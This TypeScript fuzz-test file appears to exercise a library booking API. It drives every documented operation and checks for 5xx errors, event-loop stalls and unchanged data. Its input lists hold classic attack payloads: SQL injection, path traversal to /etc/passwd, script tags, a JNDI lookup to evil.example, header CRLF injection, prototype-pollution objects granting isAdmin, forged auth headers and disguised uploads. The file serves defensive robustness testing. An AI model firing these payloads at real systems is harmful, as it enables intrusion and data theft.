import type { Server } from 'node:http';
import { monitorEventLoopDelay } from 'node:perf_hooks';
import { createTestApp, TestApp } from './create-test-app';
import { bearer, local, newDevice, newPatron, signIn, TestPatron } from './factories';
import { HTML, jpeg, png, SVG } from './image-files';

// A fixed default seed keeps runs comparable; FUZZ_SEED explores other corners. Every request
// follows from the seed, its index and the API document, so a failure names all it takes to
// replay it.
const SEED = Number(process.env.FUZZ_SEED ?? 20261201) >>> 0;
const TOTAL = Number(process.env.FUZZ_REQUESTS ?? 10_000);
const CONCURRENCY = 20;
const NOW = '2026-12-01T14:00:00Z';

/** mulberry32: tiny, fast and good enough to pick test inputs reproducibly. */
class Random {
  private state: number;

  constructor(seed: number) {
    this.state = seed >>> 0;
  }

  next(): number {
    this.state = (this.state + 0x6d2b79f5) >>> 0;
    let t = this.state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  }

  int(n: number): number {
    return Math.floor(this.next() * n);
  }

  chance(p: number): boolean {
    return this.next() < p;
  }

  pick<T>(items: readonly T[]): T {
    return items[this.int(items.length)];
  }

  uuid(): string {
    const hex = Array.from({ length: 32 }, () => this.int(16).toString(16));
    hex[12] = '4';
    hex[16] = this.pick(['8', '9', 'a', 'b']);
    const s = hex.join('');
    return `${s.slice(0, 8)}-${s.slice(8, 12)}-${s.slice(12, 16)}-${s.slice(16, 20)}-${s.slice(20)}`;
  }
}

interface Schema {
  type?: string;
  $ref?: string;
  allOf?: Schema[];
  properties?: Record<string, Schema>;
  required?: string[];
  items?: Schema;
  enum?: unknown[];
  minimum?: number;
  maximum?: number;
  minLength?: number;
  maxLength?: number;
}

interface Parameter {
  name: string;
  in: 'path' | 'query' | 'header';
  schema: Schema;
}

interface Operation {
  parameters?: Parameter[];
  security?: unknown[];
  requestBody?: { content: Record<string, { schema: Schema }> };
}

interface OpenApiDocument {
  paths: Record<string, Record<string, Operation>>;
  components: { schemas: Record<string, Schema> };
}

interface Endpoint {
  key: string;
  method: string;
  path: string;
  parameters: Parameter[];
  body: Schema | null;
  /** Takes multipart/form-data (a file upload) rather than JSON. */
  multipart: boolean;
  secured: boolean;
}

type Caller = 'anonymous' | 'patron' | 'librarian' | 'forged';

/** One input pinned to a hostile value while everything around it is plausible. */
interface Focus {
  where: 'path' | 'query' | 'body';
  name: string;
  value: unknown;
  caller: Caller;
  /** The other end of a range (`to` for `from`), given the same value. */
  pair?: string;
}

interface Plan {
  endpoint: Endpoint;
  focus?: Focus;
}

interface FuzzRequest {
  index: number;
  endpoint: Endpoint;
  caller: Caller;
  url: string;
  headers: Record<string, string>;
  body?: { contentType: string; payload: string | Buffer };
}

interface Failure {
  index: number;
  route: string;
  caller: Caller;
  url: string;
  body: string;
  status: number | string;
  response: string;
}

const HUGE = 'a'.repeat(100_000);

const HOSTILE_STRINGS: readonly string[] = [
  '',
  ' ',
  HUGE,
  'é'.repeat(60_000),
  '\u202Eevil\u202C',
  '\u200F\u200E\u200B',
  '😀🏳️‍🌈👩‍👩‍👧',
  '\u0000',
  'a\u0000b',
  '\ud800',
  '\udfff',
  '\uFEFF',
  'e\u0301',
  'İıß',
  "' OR 1=1 --",
  '"; DROP TABLE bookings; --',
  '../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '<script>alert(1)</script>',
  '%00',
  '%',
  '%zz',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '\\',
  '_%',
  '*',
  '"',
  'NEAR(a b',
  'a OR b AND NOT',
  '-',
  ':',
  '\r\nX-Injected: 1',
  '2026-02-30',
  '2026-12-01T25:00:00Z',
  '2026-13-01',
  '0000-00-00',
  '0000-01-01',
  '9999-12-31',
  '0001-01-01T00:00:00Z',
  '9999-12-31T23:59:59Z',
  '2026-12-01T15:00:00+99:99',
  '2026-12-01T15:00:00+14:00',
  '2026-12-01T15:00:00.1234567891Z',
  '+275760-09-13T00:00:00Z',
  '2026-W49-2',
  'tomorrow',
  '1e3',
  '1e309',
  '-1',
  '0',
  '1.5',
  'NaN',
  'Infinity',
  '-Infinity',
  'null',
  'undefined',
  'true',
  '0x1F',
  '99999999999999999999',
];

const HOSTILE_NUMBERS: readonly number[] = [
  0,
  -1,
  -0.5,
  1.5,
  1e308,
  -1e308,
  2 ** 31,
  2 ** 53 + 2,
  -(2 ** 63),
  Number.MIN_VALUE,
];

/** Never a valid date or instant, whatever the field. */
const BAD_DATES: readonly string[] = [
  '2026-02-30',
  '2026-12-01T25:00:00Z',
  '',
  'tomorrow',
  '2026-13-01',
  '2026-12-01 15:00',
  '2026-12-01T15:00:00',
  '12/01/2026',
];

const MALFORMED_JSON: readonly string[] = [
  '{',
  '{"a":',
  "{'a': 1}",
  '{"a": 1,}',
  '{"a": undefined}',
  '{"a": NaN}',
  '[1, 2',
  'null',
  '"just a string"',
  '123',
  'true',
  '\u0000',
  '{"a":"\\ud800"',
  '['.repeat(10_000) + ']'.repeat(10_000),
  `{"a":${'{"a":'.repeat(3000)}1${'}'.repeat(3000)}}`,
];

const WRONG_CONTENT_TYPES: readonly string[] = [
  'text/plain',
  'application/xml',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=xyz',
  'application/json; charset=utf-16',
  'application/json; charset=latin1',
  'application/octet-stream',
  'application/merge-patch+json',
  'image/png',
];

const EXTRA_FIELDS: readonly string[] = [
  'role',
  'isAdmin',
  'id',
  'patronId',
  'createdAt',
  'deletedAt',
  'extra',
  '$where',
  '',
];

/**
 * Keys the whitelist does not see (class-transformer skips them), so they ride along with a
 * spoiling change rather than being one.
 */
const PROTOTYPE_KEYS: readonly string[] = ['__proto__', 'constructor'];

/** What a multipart upload carries: real images, images in disguise, and broken ones. */
const UPLOADS: readonly Buffer[] = [
  png(),
  jpeg(),
  SVG,
  HTML,
  Buffer.alloc(0),
  png().subarray(0, 12),
  Buffer.from('GIF89a'),
  Buffer.from('RIFF\0\0\0\0WEBPVP8X'),
  Buffer.from([0xff, 0xd8, 0xff]),
  Buffer.concat([png(), Buffer.from('<script>alert(1)</script>')]),
  Buffer.concat([png(1, 1), Buffer.alloc(5 * 1024 * 1024)]),
];
const UPLOAD_FIELDS: readonly string[] = [
  'file',
  'file',
  'file',
  'photo',
  '',
  'file[0]',
  '__proto__',
];
const UPLOAD_TYPES: readonly string[] = ['image/png', 'image/svg+xml', 'text/html', ''];

/**
 * Writes whose successes add only accounts, sessions and outages, which the snapshots do not
 * cover: a focused body may be valid there, so hostile text reaches the database.
 */
const OUTSIDE_SNAPSHOTS = new Set([
  'POST /api/auth/register',
  'POST /api/auth/login',
  'POST /api/equipment/{slug}/outages',
]);

/** What every parameter and field of every operation is tried with, one at a time. */
const FOCUS_TEXT: readonly string[] = [
  '\u0000',
  'a\u0000b',
  '\ud800',
  '\u202E😀',
  'é'.repeat(3000),
  "' OR 1=1 --",
  '../../etc/passwd',
  '2026-02-30',
  '-1',
  '99999999999999999999',
  '1e308',
];
/**
 * Dates and instants far outside 1900–2199 and offsets no clock shows: a day loop that walked
 * from 9999-12-31 once never ended, as the next day prints `+010000-01-01` and sorts first.
 */
const EXTREME_DATES: readonly string[] = [
  '0000-01-01',
  '1899-12-31',
  '2200-01-01',
  '9999-12-31',
  '+010000-01-01',
  '0000-01-01T10:00:00Z',
  '1899-12-31T23:59:59Z',
  '2200-01-01T00:00:00Z',
  '9999-12-31T23:59:59Z',
  '+010000-01-01T00:00:00Z',
  '2026-12-03T15:00:00+99:99',
  '2026-12-03T15:00:00-24:00',
];
const DATE_FIELDS = new Set(['from', 'to', 'date', 'start', 'end', 'birthDate']);
const RANGE_PAIRS: Record<string, string> = { from: 'to', start: 'end' };

/**
 * Longest the event loop may stall while the fuzz runs, in milliseconds: a request that blocks the
 * process (a synchronous scan, a runaway loop) shows up here, however fast or busy the machine.
 * The fuzzer shares the app's event loop, so `/health` answers behind the fuzz's own requests
 * too; it must answer every check with 200, each within five times this.
 */
const STALL_WITHIN_MS = Number(process.env.FUZZ_STALL_MS ?? 1000);

const FOCUS_VALUES: readonly unknown[] = [...FOCUS_TEXT, 42, -1, 1e308, true, {}, ['x'], null];

function hostileValue(r: Random): unknown {
  switch (r.int(8)) {
    case 0:
    case 1:
    case 2:
      return r.pick(HOSTILE_STRINGS);
    case 3:
      return r.pick(HOSTILE_NUMBERS);
    case 4:
      return r.chance(0.5);
    case 5:
      return r.pick([
        {},
        { $gt: '' },
        { a: { b: { c: 1 } } },
        { ['__proto__']: { isAdmin: true } },
      ]);
    case 6:
      return r.pick([[], [1, 2], ['a'], [[[]]], [null], Array.from({ length: 5000 }, () => 1)]);
    default:
      return null;
  }
}

function hostileText(r: Random): string {
  const value = hostileValue(r);
  return typeof value === 'string' ? value : JSON.stringify(value);
}

/** A value whose JSON type can never satisfy a field declared with `type`. */
function wrongTypeValue(r: Random, type: string | undefined): unknown {
  const byType: Record<string, unknown[]> = {
    string: [42, -1.5, true, false, {}, ['x'], { toString: 'x' }],
    number: ['1', '', 'NaN', true, {}, [1]],
    integer: ['1', '', 'NaN', true, {}, [1]],
    boolean: ['true', 'false', 1, 0, {}, [true]],
    array: ['a', 1, true, { 0: 'a' }],
    object: ['a', 1, true],
  };
  return r.pick(byType[type ?? 'object'] ?? byType.object);
}

/** Header values must stay printable ASCII, or the client refuses to send them at all. */
function ascii(value: string, max = 8000): string {
  return value.replace(/[^\x20-\x7e]/g, '?').slice(0, max);
}

/** Percent-encodes UTF-8 bytes; unlike encodeURIComponent it never throws on lone surrogates. */
function encodeSegment(value: string): string {
  return [...Buffer.from(value, 'utf8')]
    .map((byte) =>
      /[A-Za-z0-9\-_.~]/.test(String.fromCharCode(byte))
        ? String.fromCharCode(byte)
        : `%${byte.toString(16).toUpperCase().padStart(2, '0')}`,
    )
    .join('');
}

function preview(value: unknown): string {
  const text = typeof value === 'string' ? value : (JSON.stringify(value) ?? String(value));
  return text.length > 200 ? `${text.slice(0, 200)}… (${text.length} chars)` : text;
}

describe('HTTP fuzzing of every documented operation', () => {
  let t: TestApp;
  let document: OpenApiDocument;
  let librarian: string;
  let staff: string;
  let patron: TestPatron;
  let device: string;
  let bookingId: string;
  let feedToken: string;

  beforeAll(async () => {
    t = await createTestApp({
      now: NOW,
      // The point is to reach validation and the services, not to trip the rate limits.
      env: { API_RATE_PER_MINUTE: '10000000', AUTH_RATE_PER_15_MINUTES: '10000000' },
    });
    // Listening once spares supertest from opening and closing a server for every request.
    const server = t.app.getHttpServer() as Server;
    await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
    librarian = await signIn(t, 'librarian');
    staff = await signIn(t, 'staff');
    patron = await newPatron(t);
    device = await newDevice(t);
    const booking = await t.http
      .post('/api/bookings')
      .set(bearer(patron.token))
      .send({ equipment: device, start: local('2026-12-02T15:00'), end: local('2026-12-02T16:00') })
      .expect(201);
    bookingId = booking.body.id as string;
    const feed = await t.http.get('/api/me/calendar-feed').set(bearer(patron.token)).expect(200);
    feedToken = /\/api\/calendar\/([^/]+)\.ics$/.exec(feed.body.url as string)![1];
    document = (await t.http.get('/api/docs-json').expect(200)).body as OpenApiDocument;
  });
  afterAll(() => t?.close());

  const resolve = (schema: Schema | undefined): Schema => {
    if (!schema) return {};
    if (schema.$ref) return resolve(document.components.schemas[schema.$ref.split('/').pop()!]);
    if (schema.allOf?.length === 1) return resolve(schema.allOf[0]);
    return schema;
  };

  const endpoints = (): Endpoint[] =>
    Object.entries(document.paths).flatMap(([path, operations]) =>
      Object.entries(operations).map(([method, operation]) => ({
        key: `${method.toUpperCase()} ${path}`,
        method,
        path,
        parameters: operation.parameters ?? [],
        body: operation.requestBody
          ? resolve(Object.values(operation.requestBody.content)[0]?.schema)
          : null,
        multipart: Boolean(operation.requestBody?.content['multipart/form-data']),
        secured: Boolean(operation.security?.length),
      })),
    );

  /** A realistic value for a field, so that the deliberate faults are what the server sees. */
  const plausible = (name: string, schema: Schema, path: string): unknown => {
    const s = resolve(schema);
    const byName: Record<string, unknown> = {
      equipment: s.type === 'array' ? [device] : device,
      category: 'editing',
      start: local('2026-12-03T15:00'),
      end: local('2026-12-03T16:00'),
      date: path.includes('availability') ? '2026-12-02' : '2027-06-15',
      birthDate: '1990-01-01',
      from: path.includes('/audit') ? local('2026-12-01T00:00') : '2026-12-01',
      to: path.includes('/audit') ? local('2026-12-31T00:00') : '2026-12-31',
      // Signing in as a real patron with a wrong PIN would count towards locking the account.
      cardNumber: path.startsWith('/api/auth') ? '29999999999999' : patron.cardNumber,
      card: patron.cardNumber,
      email: 'fuzz@example.org',
      pin: '4321',
      password: 'not-the-password',
      opens: '10:00',
      closes: '18:00',
      weekday: 1,
      code: 'ABCDEF',
      action: 'booking.cancelled',
      step: 1,
      estimatedMinutes: [10, 20],
      slug: path.includes('manuals') ? 'podcast-studio-basics' : 'podcast-studio',
      q: 'podcast',
      includeRetired: 'true',
      limit: 10,
      offset: 0,
    };
    const numeric = s.type === 'number' || s.type === 'integer';
    if (name in byName && (!numeric || typeof byName[name] === 'number')) return byName[name];
    if (s.enum?.length) return s.enum[0];
    if (numeric) return s.minimum ?? 1;
    if (s.type === 'boolean') return false;
    if (s.type === 'array') return [];
    if (s.type === 'object')
      return Object.fromEntries(
        Object.entries(s.properties ?? {}).map(([k, v]) => [k, plausible(k, v, path)]),
      );
    return 'x'.repeat(Math.max(1, s.minLength ?? 1));
  };

  /** One change no DTO accepts: an unknown field, a wrong JSON type, or a value out of range. */
  const spoil = (r: Random, body: Record<string, unknown>, schema: Schema, keep?: string) => {
    const fields = Object.entries(schema.properties ?? {}).filter(([name]) => name !== keep);
    const choice = fields.length && keep === undefined ? r.int(4) : 0;
    if (choice === 0) {
      const name = r.pick(EXTRA_FIELDS.filter((f) => !(f in (schema.properties ?? {}))));
      body[name] = hostileValue(r) ?? 'x';
      return;
    }
    const [name, raw] = r.pick(fields);
    const field = resolve(raw);
    const type = field.type ?? (field.properties || raw.allOf ? 'object' : 'string');
    if (choice === 3 && type === 'string' && field.maxLength !== undefined) {
      body[name] = 'y'.repeat(field.maxLength + 1 + r.int(3) * 50_000);
    } else if (choice === 3 && type === 'number' && field.maximum !== undefined) {
      body[name] = r.chance(0.5) ? field.maximum + 1 : (field.minimum ?? 0) - 1 - r.int(1e6);
    } else if (choice === 2 && ['start', 'end', 'date', 'birthDate'].includes(name)) {
      body[name] = r.pick(BAD_DATES);
    } else {
      body[name] = wrongTypeValue(r, type);
    }
  };

  /** Any hostile change, valid or not: what the spoiling change rides along with. */
  const tamper = (r: Random, body: Record<string, unknown>, schema: Schema, path: string) => {
    if (r.chance(0.1)) {
      // Defined rather than assigned: assigning `__proto__` would swap the prototype instead.
      Object.defineProperty(body, r.pick(PROTOTYPE_KEYS), {
        value: { prototype: { isAdmin: true }, isAdmin: true },
        enumerable: true,
        configurable: true,
        writable: true,
      });
      return;
    }
    const fields = Object.keys(schema.properties ?? {});
    if (!fields.length) return;
    const name = r.pick(fields);
    const field = resolve(schema.properties![name]);
    const roll = r.int(4);
    if (roll === 0) {
      delete body[name];
    } else if (roll === 1 && field.properties && typeof body[name] === 'object' && body[name]) {
      tamper(r, body[name] as Record<string, unknown>, field, path);
    } else if (roll === 2 && field.type === 'array' && field.items) {
      const item = resolve(field.items);
      const element = item.properties ? plausible('', item, path) : hostileValue(r);
      if (item.properties) tamper(r, element as Record<string, unknown>, item, path);
      body[name] = Array.from({ length: r.pick([1, 2, 31, 71]) }, () => element);
    } else {
      body[name] = roll === 1 ? hostileValue(r) : r.pick(HOSTILE_STRINGS);
    }
  };

  /**
   * The request body. Unless the path names nothing that exists (so no write can land), every
   * body is one that validation must refuse: that is what keeps the snapshots identical.
   */
  const makeBody = (
    r: Random,
    endpoint: Endpoint,
    mayBeValid: boolean,
    focus?: Focus,
  ): FuzzRequest['body'] => {
    const schema = endpoint.body;
    const json = (value: unknown) => ({
      contentType: 'application/json',
      payload: typeof value === 'string' ? value : JSON.stringify(value),
    });
    if (!schema) return r.chance(0.3) ? json(JSON.stringify(hostileValue(r))) : undefined;
    // An upload may well succeed: images are files outside the snapshots.
    if (endpoint.multipart && !focus && r.chance(0.7)) return multipartBody(r);
    if (focus) {
      const body = plausible('', schema, endpoint.path) as Record<string, unknown>;
      if (endpoint.key.endsWith('/register')) {
        // A card and e-mail of its own, or the sign-up stops at "already registered".
        const card = `27${String(r.int(1e12)).padStart(12, '0')}`;
        Object.assign(body, { cardNumber: card, email: `fuzz-${card}@example.org` });
      }
      if (focus.where === 'body') body[focus.name] = focus.value;
      if (focus.where === 'body' && focus.pair) body[focus.pair] = focus.value;
      if (!mayBeValid) spoil(r, body, schema, focus.name);
      return json(body);
    }
    const required = (schema.required ?? []).length > 0 || endpoint.key.endsWith('/login');
    const roll = r.int(20);
    if (roll === 0) return json(r.pick(MALFORMED_JSON));
    if (roll === 1)
      return {
        contentType: 'application/json',
        payload: Buffer.from([0x7b, 0x22, 0x61, 0x22, 0x3a, 0x22, 0xff, 0xfe, 0xc3, 0x22, 0x7d]),
      };
    if (roll === 2) return json(`{"a":"${'b'.repeat(300_000)}"}`);
    // Without a parser for the type the body arrives empty, which only a required field refuses.
    if (roll === 3 && (required || mayBeValid))
      return {
        contentType: r.pick(WRONG_CONTENT_TYPES),
        payload: r.pick(['<a>1</a>', 'a=1&b=2', JSON.stringify(plausible('', schema, '')), '']),
      };
    if (roll === 4 && mayBeValid) return json([plausible('', schema, endpoint.path)]);
    const body = plausible('', schema, endpoint.path) as Record<string, unknown>;
    for (let i = r.int(4); i > 0; i -= 1) tamper(r, body, schema, endpoint.path);
    if (!mayBeValid || r.chance(0.7)) spoil(r, body, schema);
    return json(body);
  };

  /** A multipart body of 0 to 3 parts, files or fields, sometimes cut short or mislabelled. */
  const multipartBody = (r: Random): FuzzRequest['body'] => {
    const boundary = `fuzz${r.int(1e9)}`;
    const parts: Buffer[] = [];
    for (let i = r.pick([0, 1, 1, 1, 2, 3]); i > 0; i -= 1) {
      const isFile = r.chance(0.8);
      const filename = ascii(
        r.pick(['a.png', 'x.svg', '../../etc/passwd', ...HOSTILE_STRINGS]),
        300,
      );
      const type = r.pick(UPLOAD_TYPES);
      const head = [
        `--${boundary}`,
        `Content-Disposition: form-data; name="${r.pick(UPLOAD_FIELDS)}"${
          isFile ? `; filename="${filename.replace(/"/g, '')}"` : ''
        }`,
        ...(isFile && type ? [`Content-Type: ${type}`] : []),
      ];
      parts.push(
        Buffer.from(`${head.join('\r\n')}\r\n\r\n`),
        isFile ? r.pick(UPLOADS) : Buffer.from(hostileText(r).slice(0, 5000)),
        Buffer.from('\r\n'),
      );
    }
    if (r.chance(0.9)) parts.push(Buffer.from(`--${boundary}--\r\n`));
    return {
      contentType: `multipart/form-data; boundary=${r.chance(0.95) ? boundary : 'other'}`,
      payload: Buffer.concat(parts),
    };
  };

  /** A path parameter that names nothing that exists. */
  const junkParameter = (r: Random, name: string): string => {
    const special: Record<string, readonly string[]> = {
      id: [
        r.uuid(),
        r.uuid().toUpperCase(),
        '00000000-0000-0000-0000-000000000000',
        'a0eebc99-9c0b-11d1-b465-00c04fd4ca11',
        `{${r.uuid()}}`,
        `${r.uuid()}x`,
      ],
      n: ['0', '-1', '000', '2147483648', '9007199254740993', '99999999999999999999', '1e2', '1.5'],
      card: ['0', '000000', '1'.repeat(21), '9'.repeat(20), '-1', ' 1234'],
      date: BAD_DATES.filter(Boolean),
      slug: ['no-such-thing', `missing-${r.int(1e9)}`, 'a'.repeat(5000), 'Podcast-Studio'],
      feedToken: ['a'.repeat(20), 'A'.repeat(101), 'x'],
    };
    const pool = special[name] ?? [];
    if (pool.length && r.chance(0.5)) return encodeSegment(r.pick(pool));
    if (r.chance(0.05)) return r.pick(['%', '%zz', '%E0%A4%A', '%00']);
    const value = r.pick(HOSTILE_STRINGS);
    return encodeSegment(value === HUGE ? value.slice(0, 6000) : value) || 'x';
  };

  const realParameter = (name: string, path: string): string | undefined => {
    const real: Record<string, string> = {
      id: path.startsWith('/api/bookings') ? bookingId : '',
      slug: path.startsWith('/api/manuals') ? 'podcast-studio-basics' : device,
      card: patron.cardNumber,
      n: '1',
      feedToken,
    };
    return real[name] || undefined;
  };

  const queryString = (r: Random, endpoint: Endpoint, focus?: Focus): string => {
    const pairs: string[] = [];
    const add = (name: string, value: string) =>
      pairs.push(`${encodeSegment(name)}=${encodeSegment(value)}`);
    for (const parameter of endpoint.parameters.filter((p) => p.in === 'query')) {
      const plain = () => String(plausible(parameter.name, parameter.schema, endpoint.path));
      if (focus) {
        const pinned = focus.name === parameter.name || focus.pair === parameter.name;
        add(parameter.name, pinned ? String(focus.value) : plain());
        continue;
      }
      const roll = r.int(10);
      if (roll < 2) continue;
      add(parameter.name, roll < 6 ? plain() : hostileText(r));
      if (roll === 9) add(parameter.name, r.pick(HOSTILE_STRINGS).slice(0, 5000));
    }
    if (!focus && r.chance(0.15)) add(r.pick(['x', 'a[b]', '__proto__[x]', 'sort', '']), 'y');
    return pairs.length ? `?${pairs.join('&')}` : '';
  };

  const forgedAuthorization = (r: Random): Record<string, string> =>
    r.pick<Record<string, string>>([
      { Authorization: `Bearer ${ascii(r.pick(HOSTILE_STRINGS))}` },
      { Authorization: 'Bearer' },
      { Authorization: 'Bearer    ' },
      { Authorization: 'Basic bGlicmFyaWFuQGV4YW1wbGUub3JnOmxpYnJhcmlhbi1kZW1v' },
      { Authorization: `Bearer ${'A'.repeat(7000)}` },
      { Cookie: `dml_session=${encodeSegment(r.pick(HOSTILE_STRINGS).slice(0, 3000))}` },
      { Cookie: 'dml_session=%' },
    ]);

  /** Every path parameter, query parameter and body field, each with every focus value. */
  const focusCases = (all: Endpoint[]): Plan[] =>
    all.flatMap((endpoint) => {
      const targets = [
        ...endpoint.parameters
          .filter((p) => p.in !== 'header')
          .map((p) => ({ where: p.in as 'path' | 'query', name: p.name })),
        ...Object.keys(endpoint.body?.properties ?? {}).map((name) => ({
          where: 'body' as const,
          name,
        })),
      ];
      return targets.flatMap((target) =>
        (target.where === 'body' ? FOCUS_VALUES : FOCUS_TEXT).flatMap((value) =>
          // Anonymous callers only get past the guards of public routes.
          (endpoint.secured
            ? (['patron', 'librarian'] as const)
            : (['anonymous', 'patron', 'librarian'] as const)
          ).map((caller) => ({
            endpoint,
            focus: { ...target, value, caller },
          })),
        ),
      );
    });

  /**
   * Every date parameter with every extreme date, alone and as both ends of its range, as the
   * most privileged caller it admits.
   */
  const extremeDateCases = (all: Endpoint[]): Plan[] =>
    all.flatMap((endpoint) => {
      const caller: Caller = endpoint.secured ? 'librarian' : 'anonymous';
      const targets = [
        ...endpoint.parameters
          .filter((p) => p.in !== 'header' && DATE_FIELDS.has(p.name))
          .map((p) => ({ where: p.in as 'path' | 'query', name: p.name })),
        ...Object.keys(endpoint.body?.properties ?? {})
          .filter((name) => DATE_FIELDS.has(name))
          .map((name) => ({ where: 'body' as const, name })),
      ];
      const names = new Set(targets.map((t) => t.name));
      return targets.flatMap((target) =>
        EXTREME_DATES.flatMap((value) => {
          const pair = RANGE_PAIRS[target.name];
          const alone: Plan = { endpoint, focus: { ...target, value, caller } };
          return pair && names.has(pair)
            ? [alone, { endpoint, focus: { ...target, value, caller, pair } }]
            : [alone];
        }),
      );
    });

  /**
   * Every other request is a focused one until they run out; the others are the extreme dates
   * first, then roam freely.
   */
  const makePlan = (all: Endpoint[]): Plan[] => {
    const focused = focusCases(all);
    const extremes = extremeDateCases(all);
    const plan: Plan[] = [];
    let roaming = 0;
    let extreme = 0;
    for (let i = 0; i < TOTAL; i += 1) {
      const f = Math.floor(i / 2);
      if (i % 2 === 0 && f < focused.length) plan.push(focused[f]);
      else if (extreme < extremes.length) plan.push(extremes[extreme++]);
      else plan.push({ endpoint: all[roaming++ % all.length] });
    }
    process.stdout.write(
      `HTTP fuzz: ${Math.min(focused.length, Math.ceil(TOTAL / 2))} of ${focused.length} focused requests, ${extreme} of ${extremes.length} extreme dates, ${roaming} roaming\n`,
    );
    return plan;
  };

  const makeRequest = (index: number, { endpoint, focus }: Plan): FuzzRequest => {
    const r = new Random(SEED ^ Math.imul(index + 1, 0x9e3779b1));
    // Signing out with a real token would end the session the other requests rely on.
    const callers: Caller[] = endpoint.key.endsWith('/logout')
      ? ['anonymous', 'forged']
      : ['anonymous', 'patron', 'librarian', 'patron', 'librarian', 'forged'];
    const caller = focus?.caller ?? r.pick(callers);
    const writes = endpoint.method !== 'get';
    const pathFocus = focus?.where === 'path';
    // A write may name a real resource only when its body is certain to be refused.
    const junkPath = pathFocus || (writes ? !endpoint.body || r.chance(0.5) : r.chance(0.5));
    let url = endpoint.path;
    for (const parameter of endpoint.parameters.filter((p) => p.in === 'path')) {
      const focused = pathFocus && focus.name === parameter.name;
      const value = focused
        ? encodeSegment(String(focus.value))
        : ((pathFocus || !junkPath ? realParameter(parameter.name, endpoint.path) : undefined) ??
          junkParameter(r, parameter.name));
      url = url.replace(`{${parameter.name}}`, value);
    }
    const hasPathParameters = endpoint.parameters.some((p) => p.in === 'path');
    const mayBeValid =
      !writes ||
      (junkPath && hasPathParameters) ||
      (focus?.where === 'body' && OUTSIDE_SNAPSHOTS.has(endpoint.key));
    url += queryString(r, endpoint, focus);
    const headers: Record<string, string> = {
      ...(caller === 'patron' ? bearer(patron.token) : {}),
      ...(caller === 'librarian' ? bearer(librarian) : {}),
      ...(caller === 'forged' ? forgedAuthorization(r) : {}),
    };
    for (const parameter of endpoint.parameters.filter((p) => p.in === 'header')) {
      if (!focus && r.chance(0.5)) headers[parameter.name] = ascii(hostileText(r), 300);
    }
    const body = makeBody(r, endpoint, mayBeValid, focus);
    return { index, endpoint, caller, url, headers, body };
  };

  const send = async (request: FuzzRequest) => {
    let call = t.http[request.endpoint.method as 'get'](request.url).timeout(30_000);
    for (const [name, value] of Object.entries(request.headers)) call = call.set(name, value);
    if (request.body)
      call = call.set('Content-Type', request.body.contentType).send(request.body.payload);
    return call.ok(() => true);
  };

  const snapshot = async () => {
    const read = async (url: string, token?: string) => {
      const call = t.http.get(url);
      const response = await (token ? call.set(bearer(token)) : call).expect(200);
      return response.body as unknown;
    };
    return {
      equipment: await read('/api/equipment?includeRetired=true'),
      weekly: await read('/api/hours/weekly'),
      closures: await read('/api/closures'),
      manuals: await read('/api/manuals'),
      bookings: await read('/api/bookings?limit=1000', staff),
    };
  };

  interface Outcome {
    failures: Failure[];
    statuses: Map<string, Map<number, number>>;
    before: unknown;
    after: unknown;
    health: { status: number; body: unknown };
    /** `/health` checks made while the fuzz ran: how long each took, or why it failed. */
    watchdog: { slowest: number; checks: number; late: string[]; longestStall: number };
  }
  let outcome: Outcome;

  /** Takes the next request nobody has taken yet until none are left. */
  const drain = async (plan: Plan[], cursor: { next: number }, into: Outcome) => {
    while (cursor.next < plan.length) {
      const index = cursor.next++;
      const request = makeRequest(index, plan[index]);
      const byStatus = into.statuses.get(request.endpoint.key) ?? new Map<number, number>();
      into.statuses.set(request.endpoint.key, byStatus);
      const failure = (status: number | string, response: string): Failure => ({
        index,
        route: request.endpoint.key,
        caller: request.caller,
        url: preview(request.url),
        body: request.body
          ? `${request.body.contentType} ${preview(request.body.payload.toString())}`
          : '(none)',
        status,
        response: preview(response),
      });
      try {
        const response = await send(request);
        byStatus.set(response.status, (byStatus.get(response.status) ?? 0) + 1);
        if (response.status >= 500) into.failures.push(failure(response.status, response.text));
      } catch (error) {
        into.failures.push(failure('no response', (error as Error).message));
      }
    }
  };

  /**
   * Asks `/health` every 100 ms while the fuzz runs, and times the event loop's longest stall: a
   * frozen event loop, or a write path that no longer answers, shows up here.
   */
  const watch = async (running: { done: boolean }, into: Outcome['watchdog']) => {
    const loop = monitorEventLoopDelay({ resolution: 10 });
    loop.enable();
    while (!running.done) {
      const started = Date.now();
      try {
        const response = await t.http.get('/health').timeout(STALL_WITHIN_MS * 5);
        const took = Date.now() - started;
        into.slowest = Math.max(into.slowest, took);
        if (response.status !== 200) into.late.push(`status ${response.status} after ${took} ms`);
      } catch (error) {
        into.late.push(`no answer: ${(error as Error).message}`);
      }
      into.checks += 1;
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
    loop.disable();
    into.longestStall = Math.round(loop.max / 1e6);
  };

  beforeAll(
    async () => {
      process.stdout.write(
        `HTTP fuzz: seed ${SEED} (FUZZ_SEED), ${TOTAL} requests (FUZZ_REQUESTS)\n`,
      );
      const plan = makePlan(endpoints());
      outcome = {
        failures: [],
        statuses: new Map(),
        before: await snapshot(),
        after: null,
        health: { status: 0, body: null },
        watchdog: { slowest: 0, checks: 0, late: [], longestStall: 0 },
      };
      const cursor = { next: 0 };
      const running = { done: false };
      const watchdog = watch(running, outcome.watchdog);
      await Promise.all(Array.from({ length: CONCURRENCY }, () => drain(plan, cursor, outcome)));
      running.done = true;
      await watchdog;
      const health = await t.http.get('/health');
      outcome.health = { status: health.status, body: health.body };
      outcome.after = await snapshot();
    },
    // Generous: on a busy shared machine the run takes well over 12 ms a request.
    TOTAL * 40 + 30_000,
  );

  it('sends every documented operation its share of the requests', () => {
    const documented = endpoints().map((e) => e.key);
    expect(documented.length).toBeGreaterThan(40);
    expect(TOTAL).toBeGreaterThanOrEqual(documented.length * 2);
    expect([...outcome.statuses.keys()].sort()).toEqual(documented.sort());
  });

  it('answers every request, and none with a 5xx', () => {
    expect(outcome.failures).toEqual([]);
  });

  it(`never stalls for ${STALL_WITHIN_MS} ms, and answers GET /health with 200 throughout`, () => {
    const { checks, slowest, longestStall, late } = outcome.watchdog;
    process.stdout.write(
      `HTTP fuzz: ${checks} health checks, slowest ${slowest} ms; longest stall of the event loop ${longestStall} ms\n`,
    );
    expect(checks).toBeGreaterThan(0);
    expect(late).toEqual([]);
